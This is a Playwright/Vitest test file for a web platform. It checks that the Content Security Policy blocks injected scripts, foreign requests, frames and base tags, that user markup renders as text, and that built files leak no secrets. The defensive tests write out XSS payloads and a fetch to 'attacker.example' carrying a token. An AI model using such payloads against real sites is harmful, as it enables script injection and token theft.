import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { afterEach, beforeEach, describe, expect, inject, test } from 'vitest';
import { walkFiles } from '../../scripts/walk-files.ts';
import { launchBrowser } from '../support/browser.ts';
import { browserWith } from '../support/browsers.ts';
import { database } from '../support/users.ts';
import { eventually, newCreator, newFan, writePost } from './world.ts';

/*
 * The page under attack: markup in what users write, code that got into the page all the same, a
 * frame around it, and keys in what it is built of.
 */
const { addresses, keys, jwtSecret, webhookSecret, paymentSecretKey, transcodeSecret } =
  inject('platform');
const { openPage } = launchBrowser();
const markup = '<img src=x onerror="window.broken=1"><script>window.broken=1</script>';

/** The directives that refuse what the attack does. */
async function refusedBy(page: Page, attack: string): Promise<string[]> {
  return page.evaluate(async (code) => {
    const refused: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      refused.push(event.effectiveDirective),
    );
    const script = document.createElement('script');
    script.src = URL.createObjectURL(new Blob([]));
    const attacks: Record<string, () => unknown> = {
      'inline script': () => {
        const inline = document.createElement('script');
        inline.textContent = 'window.broken = 1';
        document.body.append(inline);
      },
      'foreign script': () => {
        script.src = 'https://attacker.example/a.js';
        document.body.append(script);
      },
      'script of a blob': () => document.body.append(script),
      'handler in markup': () =>
        document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="broken = 1">'),
      'foreign request': () => fetch('https://attacker.example/?token=1').catch(() => undefined),
      'foreign picture': () => {
        new Image().src = 'https://attacker.example/pixel.png';
      },
      'foreign frame': () =>
        document.body.insertAdjacentHTML(
          'beforeend',
          '<iframe src="https://attacker.example/"></iframe>',
        ),
      'another base': () =>
        document.head.insertAdjacentHTML('beforeend', '<base href="https://attacker.example/">'),
    };
    await attacks[code]?.();
    for (let wait = 0; wait < 40 && refused.length === 0; wait += 1)
      await new Promise((done) => setTimeout(done, 50));
    return refused;
  }, attack);
}

let context: BrowserContext;

// Not by openPage, which fails for every line in the console.
beforeEach(async () => {
  context = await (await browserWith([])).newContext();
});
afterEach(() => context.close());

const isBroken = (page: Page) => page.evaluate(() => 'broken' in window);

describe('[F19] code that got into the page', () => {
  test.each([
    ['inline script', 'script-src-elem'],
    ['foreign script', 'script-src-elem'],
    ['script of a blob', 'script-src-elem'],
    ['handler in markup', 'script-src-attr'],
    ['foreign request', 'connect-src'],
    ['foreign picture', 'img-src'],
    ['foreign frame', 'frame-src'],
    ['another base', 'base-uri'],
  ])('%s is refused by %s', async (attack, directive) => {
    const page = await context.newPage();
    await page.goto(addresses.page);
    expect(new Set(await refusedBy(page, attack))).toEqual(new Set([directive]));
    expect(await isBroken(page)).toBe(false);
  });

  test('a script and a request of the page itself are accepted', async () => {
    const { page, open } = await openPage();
    await open('/');
    const served = await page.evaluate(async (api) => {
      const script = document.createElement('script');
      script.src = '/theme.js';
      const ran = new Promise((done) => script.addEventListener('load', () => done('load')));
      document.body.append(script);
      const answer = await fetch(`${api}/auth/v1/health`).catch(() => undefined);
      return [await ran, answer !== undefined];
    }, addresses.api);
    expect(served).toEqual(['load', true]);
  });
});

test('[F19] a foreign site cannot show the page in a frame; a link to it opens it', async () => {
  const body = `<iframe src="${addresses.page}/"></iframe><a href="${addresses.page}/">in</a>`;
  const foreign = createServer((_request, answer) => {
    answer.setHeader('content-type', 'text/html').end(body);
  });
  // A real server: a browser lets no faked site reach a page on this machine.
  await new Promise<void>((done) => foreign.listen(0, '127.0.0.1', done));
  try {
    const page = await context.newPage();
    // A server that listens on a port has an address of this form.
    await page.goto(`http://127.0.0.1:${(foreign.address() as AddressInfo).port}/`);
    await eventually(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
    await page.getByRole('link', { name: 'in' }).click();
    await page.locator('#root *').first().waitFor();
  } finally {
    foreign.close();
  }
});

test('[F33] markup in a name, a biography and a post is shown as text and never runs', async () => {
  const creator = await newCreator('Markup Mara');
  await database.query('update public.profiles set name = $2, bio = $3 where id = $1', [
    creator.id,
    '<b>Mara</b>',
    markup,
  ]);
  await writePost(creator, 'public', `Look: ${markup}`);
  const { page, open } = await openPage({ as: await newFan('Markup Fan') });
  await open(`/${creator.username}`);
  for (const text of ['<b>Mara</b>', `Look: ${markup}`])
    await page.getByText(text).first().waitFor();
  expect(await page.locator('main').textContent()).toContain('onerror');
  expect(await page.locator('img[src="x"]').count()).toBe(0);
  expect(await isBroken(page)).toBe(false);
});

test('[F19] no file of the page has a secret of the platform; the public key is there', async () => {
  const dist = join(import.meta.dirname, '..', '..', 'dist');
  const files = walkFiles(dist, '').map((file) => file.slice(dist.length));
  expect(files.filter((file) => file.endsWith('.js')).length).toBeGreaterThan(20);
  const texts = await Promise.all(
    files
      .filter((file) => /\.(?:js|css|html|json|webmanifest|txt)$/.test(file))
      .map(async (file) => ({ file, text: await (await fetch(addresses.page + file)).text() })),
  );
  const secrets = [keys.secret, jwtSecret, webhookSecret, paymentSecretKey, transcodeSecret];
  expect(secrets.every((secret) => secret.length > 16)).toBe(true);
  const written =
    /sb_secret_|sk_(?:live|test)_|whsec_|service_role|PRIVATE KEY|postgres(?:ql)?:\/\//;
  const leaks = ({ text }: { text: string }) =>
    written.test(text) || secrets.some((secret) => text.includes(secret));
  expect(texts.filter(leaks).map(({ file }) => file)).toEqual([]);
  expect(leaks({ text: `const key = '${keys.secret}'` })).toBe(true);
  expect(texts.some(({ text }) => text.includes(keys.publishable))).toBe(true);
  expect(readFileSync(join(dist, 'index.html'), 'utf8')).not.toContain(keys.secret);
});
